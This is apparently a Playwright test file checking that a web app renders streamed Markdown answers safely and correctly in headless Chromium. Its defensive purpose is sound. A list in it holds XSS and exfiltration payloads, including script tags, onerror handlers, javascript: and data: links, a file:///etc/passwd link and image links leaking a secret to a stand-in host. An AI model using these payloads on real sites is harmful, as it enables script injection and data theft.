"""The Markdown of answers on Baton's pages, in headless Chromium: shown as meant, and harmless whatever is in it."""

from __future__ import annotations

import contextlib
from collections.abc import AsyncIterator

import pytest
from playwright.async_api import Page, expect
from tests.clients.browsing import PHONE, browsing, needs_chromium
from tests.clients.test_browser import START_SECONDS
from tests.support.cluster import Cluster, Tap

pytestmark = [pytest.mark.timeout(180), needs_chromium]
expect.set_options(timeout=START_SECONDS * 1000)

ANSWER = """\
# Title

Some *emphasis*, **weight**, ~~regret~~ and `code <b>`; a < b &amp; c. [A link](https://example.com/?a=1 "title").

- one
- two
  1. nested **item**
  2. another

  a paragraph of two

- [x] done

| left | right |
| --- | ---: |
| `1` | *2* |

```python
def f(x):
    return x < 1  # **not bold**
```

> quoted
> twice

***

Last words.
"""
TAGS = {"H3", "P", "EM", "STRONG", "DEL", "CODE", "PRE", "A", "UL", "OL", "LI", "SPAN", "DIV", "BLOCKQUOTE", "HR", "BR"}
TAGS |= {"TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "H4", "H5", "H6"}

# Each would run a script, load something, or lead somewhere unseen, if it were taken for more than text.
HOSTILE = [
    "<script>window.hit = 1</script>",
    "<img src='{leak}/a.png' onerror='window.hit = 1'>",
    "<svg onload='window.hit = 1'><use href='{leak}/b.svg'/></svg>",
    "<iframe src='{leak}/c'></iframe>",
    "<style>@import '{leak}/d.css'; body {{ display: none }}</style>",
    "<link rel=prefetch href='{leak}/e'>",
    "<base href='{leak}/'><form action='{leak}/f'><button>Ask</button></form>",
    "<meta http-equiv=refresh content='0;url={leak}/g'>",
    "![secret]({leak}/h.png?q=secret)",
    "![secret][ref]\n\n[ref]: {leak}/i.png",
    "[![inner]({leak}/j.png)](javascript:window.hit=1)",
    "[![inner]({leak}/k.png)](https://example.com/)",
    "[a](javascript:window.hit=1) [b](<JavaScript:window.hit=1>) [c](java&#x73;cript:window.hit=1)",
    "[d](data:text/html,<script>window.hit=1</script>) [e](vbscript:x) [f](file:///etc/passwd) [g](blob:x)",
    "[h](/v1/streams) [i](//evil.example/) [j](\u0001javascript:window.hit=1) [k](java\tscript:window.hit=1)",
    "<javascript:window.hit=1> <https://ok.example/>",
    '[l](https://x.example/"onmouseover="window.hit=1)',
    "| <img src={leak}/l.png> |\n| --- |\n| ![m]({leak}/m.png) |",
    "# <img src={leak}/n.png onerror=window.hit=1>",
    "```html\n<img src={leak}/o.png>\n```",
    "> " * 5000 + "deep",
    "> " * 400 + "deep",
    "**a *b " * 200 + "c* d**" * 200,
    "*" * 8000 + "a" + "*" * 8000,
    "__a" * 5000,
    "&lt;img src={leak}/p.png&gt; &#60;img src={leak}/q.png&#62;",
]

DEPTH = "function depth(node) { return 1 + Math.max(0, ...[...node.children].map(depth)); }"


@contextlib.asynccontextmanager
async def asked(cluster: Cluster, tap: Tap, size: tuple[int, int] = (1280, 860)) -> AsyncIterator[Page]:
    """The demo's page, with a question asked; its answer is what `tap` lets through."""
    await cluster.worker({"replay": tap}, flush_interval_milliseconds=5)
    pod = await cluster.pod(demo=True)
    async with browsing(size=size) as page:
        await page.goto(f"{pod.url}/demo")
        await page.get_by_role("button", name="Ask").click()
        yield page


async def html(page: Page) -> str:
    shown: str = await page.locator("#text").evaluate("node => node.innerHTML")
    return shown


async def test_markdown_in_chunks_looks_like_markdown_at_once(cluster: Cluster) -> None:
    tap = Tap()
    async with asked(cluster, tap) as page:
        tap.let(*ANSWER)
        tap.end()
        await expect(page.locator("#judged")).to_be_visible()
        in_pieces = await html(page)
        text = page.locator("#text")
        await expect(text.locator("h3")).to_have_text("Title")
        await expect(text.locator("strong").first).to_have_text("weight")
        await expect(text.locator("ul > li > ol > li")).to_have_text(["nested item", "another"])
        await expect(text.locator("td")).to_have_text(["1", "2"])
        await expect(text.locator("pre")).to_have_text("def f(x):\n    return x < 1  # **not bold**")
        await expect(text.locator("blockquote")).to_have_text("quoted\ntwice")
        await expect(text.locator("p").first).to_contain_text("code <b>; a < b & c.")
        await expect(text.get_by_role("link")).to_have_attribute("rel", "noopener noreferrer nofollow")
        await page.get_by_role("button", name="Ask").click()
        await expect(page.locator("#judged")).to_be_hidden()
        tap.let(ANSWER)
        tap.end()
        await expect(page.locator("#judged")).to_be_visible()
        assert await html(page) == in_pieces


async def test_hostile_markdown_runs_nothing_and_loads_nothing(cluster: Cluster) -> None:
    tap = Tap()
    async with asked(cluster, tap) as page:
        requested: list[str] = []
        page.on("request", lambda request: requested.append(request.url))
        page.on("dialog", lambda dialog: requested.append(dialog.message))
        page.on("popup", lambda popup: requested.append(popup.url))
        hostile = (
            "\n\n".join(HOSTILE).replace("{leak}", "http://127.0.0.1:9/leak").replace("{{", "{").replace("}}", "}")
        )
        for text in (hostile, "\n\n*the end*"):
            tap.let({"type": "reasoning", "delta": text}, text)
        tap.end()
        await expect(page.locator("#judged")).to_be_visible()
        for part in ("#text", "#reasoning"):
            await expect(page.locator(f"{part} em").last).to_have_text("the end")
            tags = await page.locator(part).evaluate(
                "node => [...node.querySelectorAll('*')].map((one) => one.tagName)"
            )
            assert set(tags) <= TAGS
            names = await page.locator(part).evaluate(
                "node => [...node.querySelectorAll('*')].flatMap((one) => one.getAttributeNames())"
            )
            assert set(names) <= {"href", "title", "target", "rel", "class", "start", "tabindex"}
            links = await page.locator(f"{part} a").evaluate_all("nodes => nodes.map((node) => node.protocol)")
            assert set(links) == {"http:", "https:"}
            assert await page.locator(part).evaluate(DEPTH) < 60
            await expect(page.locator(part)).to_contain_text("<script>window.hit = 1</script>")
            await expect(page.locator(part).get_by_role("link", name="Image: secret").first).to_be_visible()
        assert await page.evaluate("window.hit") is None
        assert [url for url in requested if "leak" in url or "evil" in url or not url.startswith("http")] == []


async def test_a_block_that_is_final_is_never_drawn_again(cluster: Cluster) -> None:
    tap = Tap()
    async with asked(cluster, tap) as page:
        tap.let("First *words*")
        await expect(page.locator("#text em")).to_have_text("words")
        await page.evaluate(
            """() => {
              window.before = document.querySelector("#text em").firstChild;
              window.added = 0;
              const count = (records) => records.forEach((record) => (window.added += record.addedNodes.length));
              new MutationObserver(count).observe(document.querySelector("#text"), { childList: true, subtree: true });
            }"""
        )
        for number in range(300):
            tap.let(f" and{number}", " more", ".\n\nNext")
        tap.let(" the *end*")
        tap.end()
        await expect(page.locator("#judged")).to_be_visible()
        assert await page.evaluate(
            "window.before.isConnected && window.before === document.querySelector('#text em').firstChild"
        )
        # 300 paragraphs, the gaps between them, and the end: each once, however often text arrived.
        assert await page.evaluate("window.added") <= 2 * 300 + 50


@pytest.mark.parametrize("size", [(1280, 860), PHONE])
async def test_the_page_follows_the_answer_until_the_reader_scrolls(cluster: Cluster, size: tuple[int, int]) -> None:
    tap = Tap()
    async with asked(cluster, tap, size) as page:
        newest = page.get_by_role("button", name="Latest text")
        for number in range(60):
            tap.let(f"Paragraph {number}.\n\n")
        await expect(page.get_by_text("Paragraph 59.")).to_be_in_viewport()
        await expect(newest).to_be_hidden()
        await expect(page.locator("#kill")).to_be_in_viewport()
        await page.evaluate("window.scrollTo(0, 0)")
        await expect(newest).to_be_visible()
        for number in range(60, 90):
            tap.let(f"Paragraph {number}.\n\n")
        await expect(page.get_by_text("Paragraph 89.")).to_be_visible()
        assert await page.evaluate("window.scrollY") == 0
        await newest.click()
        await expect(page.get_by_text("Paragraph 89.")).to_be_in_viewport()
        tap.let("The end.")
        tap.end()
        await expect(page.locator("#judged")).to_be_in_viewport()
        await expect(newest).to_be_hidden()
